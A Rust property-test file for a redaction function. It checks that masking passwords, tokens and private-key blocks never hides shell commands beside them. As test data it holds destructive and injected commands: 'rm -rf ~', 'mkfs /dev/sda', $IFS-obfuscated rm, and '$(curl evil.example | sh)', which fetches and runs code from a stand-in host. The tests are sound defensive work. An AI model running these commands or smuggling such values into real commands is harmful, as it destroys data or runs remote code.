//! A mask never hides a command that runs.

use proptest::prelude::*;

use super::samples::aws_id;
use super::samples::letters;
use super::*;

fn header() -> String {
    format!("-----{} PRIVATE KEY-----", "BEGIN")
}

#[test]
fn security_a_mask_does_not_hide_a_command_beside_a_password() {
    let cases = [
        (
            r#"echo "password:" && rm -rf ~/src && echo "done""#,
            "&& rm -rf ~/src && echo",
        ),
        (
            "echo 'password:' && rm -rf ~/src && echo 'done'",
            "&& rm -rf ~/src && echo",
        ),
        (
            r#"echo "password:"& rm -rf ~ &echo "done""#,
            "& rm -rf ~ &echo",
        ),
        (r#"echo "password:";reboot;echo "done""#, ";reboot;echo"),
        (r#"rm "pwd=" /home/me "x""#, " /home/me "),
        (r#"rm "pwd="'' /home/me "x""#, " /home/me "),
        (
            r#"pwd="abc$(curl evil.example | sh)" make"#,
            "$(curl evil.example | sh)",
        ),
        ("PWD=\"x`rm -rf ~`\"", "`rm -rf ~`"),
        ("PASSWORD=x1234|rm${IFS}-rf${IFS}~", "|rm${IFS}-rf${IFS}~"),
        ("tool --password x1234>~/notes", ">~/notes"),
        ("tool --password x1234$(reboot)", "$(reboot)"),
        ("rm pwd=abcd$IFS-rf$IFS/home", "$IFS-rf$IFS/home"),
        (
            "curl https://u:abc;rm${IFS}-rf${IFS}*;echo${IFS}@host",
            ";rm${IFS}-rf${IFS}*;echo${IFS}",
        ),
        ("curl https://u:abc`reboot`@host", "`reboot`"),
        ("PASSWORD= python3 run.py", "python3"),
        ("PASSWORD= \"wipe-all\" now", "wipe-all"),
        (
            "TOKEN= /usr/local/bin/python3.12 now",
            "/usr/local/bin/python3.12",
        ),
        ("AUTHORIZATION= ./wipe-all-4 now", "./wipe-all-4"),
        ("echo authorization:\n./wipe-all-4", "./wipe-all-4"),
        (
            "echo bearer\n/usr/local/bin/wipe2all",
            "/usr/local/bin/wipe2all",
        ),
        (
            "aws task; /home/me/bin/Build9/and/something/else/here",
            "/home/me/bin/Build9",
        ),
        ("PASSWORD=abcd\u{1b}[;reboot", ";reboot"),
        ("PASSWORD=abcd\u{1b}[1;7z x", ";7z x"),
        ("PASSWORD=abcd\u{1b}[;/???/??m", ";/???/??"),
    ];
    for (command, visible) in cases {
        let masked = redact(command);
        assert!(masked.contains(visible), "{command}: {masked}");
    }
}

#[test]
fn security_a_mask_does_not_hide_a_command_beside_a_key() {
    let header = header();
    let end = header.replace("BEGIN", "END");
    let line = letters(64);
    for rest in [
        "\" | /usr/local/bin/wipeall now".to_owned(),
        "\" > /home/me/something/Important1".to_owned(),
        "\nshutdown now".to_owned(),
        "\nshutdown".to_owned(),
        " Comment: rm -rf /home/me/src".to_owned(),
        "\\nComment: x /home/me/src".to_owned(),
        "\nVersion: x; reboot".to_owned(),
        "\n/usr/local/bin/wipeall/everything".to_owned(),
        "\n/usr/local/bin/Wipe1All2Now".to_owned(),
        format!("\nshutdown\n{end}"),
        format!("\nmkfs /dev/sda\n{end}"),
        "\nMIgration".to_owned(),
    ] {
        for before in [String::new(), format!("\n{line}")] {
            let masked = redact(&format!("echo \"{header}{before}{rest}"));
            assert!(masked.ends_with(&rest), "{rest}: {masked}");
            assert!(!masked.contains(&line), "{masked}");
        }
    }
}

#[test]
fn security_a_key_with_fields_is_masked() {
    let (header, line) = (header(), letters(64));
    for fields in [
        "Proc-Type: 4,ENCRYPTED\nDEK-Info: AES-128-CBC,0123456789ABCDEF\n\n",
        "Version: GnuPG v2 (GNU/Linux)\nComment: mine\n\n",
    ] {
        let masked = redact(&format!("{header}\n{fields}{line}\n{line}\nabcd==\n"));
        assert!(!masked.contains(&letters(20)), "{masked}");
    }
}

/// A part of a command: text before, what has to stay visible, text after.
fn step() -> impl Strategy<Value = (String, Vec<String>)> {
    let operator = prop::sample::select(vec![
        " && ",
        "&&",
        " || ",
        "||",
        ";",
        "; ",
        " | ",
        "|",
        "&",
        " & ",
        "$(",
        "`",
        "\n",
        " <x.txt;",
        " >x.txt;",
        ";PASSWORD= ",
        ";TOKEN= ",
        ";AUTHORIZATION= ",
        ";pwd= \"",
    ]);
    let word = prop::sample::select(vec![
        "rm",
        "python3",
        "wipeall",
        "shutdown",
        "./run-1-2-all",
        "/usr/local/bin/python3.12",
        "curl2",
        "/usr/local/bin/Wipe1All2Now",
        "c0rrect-h0rse",
        "Build20Things30Now",
    ]);
    let tail = prop::sample::select(vec![
        "",
        " -rf ~",
        " \"password:\"",
        " 'password:'",
        " password:",
        " pwd=\"",
        " PASSWORD='",
        " PASSWORD=",
        " token:",
        " bearer",
        " authorization:",
        " --password",
        " https://u:abc",
        " x@host",
        "@host",
        "\"",
        "'",
        " \"done\"",
        " 'x'",
        " aws secret",
        " aws_sk=",
        " password =",
        " api_key",
        "KEY",
    ]);
    (operator, word, tail).prop_map(|(operator, word, tail)| {
        let tail = if tail == "KEY" {
            format!(" \"{}\"", header())
        } else {
            tail.to_owned()
        };
        let visible = vec![operator.trim().to_owned(), word.to_owned()];
        (format!("{operator}{word}{tail}"), visible)
    })
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(2_000))]

    #[test]
    fn security_every_operator_and_command_stays_visible(
        steps in prop::collection::vec(step(), 1..8),
        place in 0_usize..8,
    ) {
        let secret = aws_id();
        let mut command = "echo".to_owned();
        let mut visible = Vec::new();
        for (index, (text, words)) in steps.iter().enumerate() {
            command.push_str(text);
            visible.extend(words);
            if index == place.min(steps.len() - 1) {
                command.push(' ');
                command.push_str(&secret);
            }
        }
        let masked = redact(&command);
        prop_assert!(!masked.contains(&secret));
        let mut rest = masked.as_str();
        for word in visible {
            let at = rest.find(word.as_str());
            prop_assert!(at.is_some(), "{word:?} of {command:?} is hidden: {masked:?}");
            rest = &rest[at.unwrap_or_default() + word.len()..];
        }
    }
}
